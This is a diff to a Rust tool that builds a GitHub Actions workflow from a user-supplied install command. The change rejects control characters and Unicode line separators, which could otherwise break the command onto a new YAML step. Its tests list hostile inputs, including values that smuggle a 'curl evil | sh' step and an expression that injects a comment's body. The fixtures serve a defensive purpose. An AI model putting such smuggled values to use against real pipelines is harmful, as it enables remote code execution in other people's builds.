@@ -27,8 +27,12 @@ pub fn install_line() -> String {
 pub fn workflow(install: Option<&str>) -> Result<String> {
     let (install, key) = match install.map(str::trim) {
         None => (install_line(), format!("{}-{}", env!("CARGO_PKG_NAME"), env!("CARGO_PKG_VERSION"))),
-        Some(line) if line.is_empty() || line.contains(['\n', '\r']) => {
-            return Err(Error::input("--install takes one command on one line"));
+        // Every line break YAML knows (NEL and the Unicode separators too: a YAML 1.1
+        // parser would start a new line, and a step, there), and any other control.
+        Some(line)
+            if line.is_empty() || line.chars().any(|c| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')) =>
+        {
+            return Err(Error::input("--install takes one command on one line, without control characters"));
         }
         // Expanded by Actions before the shell runs it: a comment's text could become code.
         Some(line) if line.contains("${{") => {
@@ -145,7 +149,16 @@ mod tests {
 
     #[test]
     fn an_install_line_is_one_line_without_an_expression_and_keyed_by_itself() {
-        for bad in ["", "a\nb", "cargo install ${{ github.event.comment.body }}"] {
+        for bad in [
+            "",
+            "a\nb",
+            "a\rb",
+            "cargo install x\u{85}- run: curl evil | sh",
+            "cargo install x\u{2028}- run: curl evil | sh",
+            "cargo install x\u{2029}y",
+            "a\u{1b}[2Jb",
+            "cargo install ${{ github.event.comment.body }}",
+        ] {
             assert_eq!(workflow(Some(bad)).unwrap_err().exit_code(), 2, "{bad:?}");
         }
         let one = workflow(Some("gh release download v1 -p x")).unwrap();
